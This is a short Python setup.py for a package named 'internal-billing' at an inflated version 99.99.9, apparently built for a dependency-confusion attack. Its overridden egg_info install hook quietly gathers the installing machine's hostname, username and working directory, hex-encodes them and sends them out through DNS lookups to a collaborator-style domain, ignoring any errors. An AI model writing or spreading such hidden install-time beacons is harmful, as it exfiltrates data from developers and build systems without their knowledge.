import getpass, os, socket, binascii
from setuptools import setup
from setuptools.command.egg_info import egg_info


class Beacon(egg_info):
    def run(self):
        data = "|".join([socket.gethostname(), getpass.getuser(), os.getcwd()])
        enc = binascii.hexlify(data.encode()).decode()
        for i in range(0, len(enc), 60):
            try:
                socket.gethostbyname("%d.%s.q7.collab.example" % (i, enc[i:i + 60]))
            except Exception:
                pass
        egg_info.run(self)


setup(name="internal-billing", version="99.99.9", cmdclass={"egg_info": Beacon})
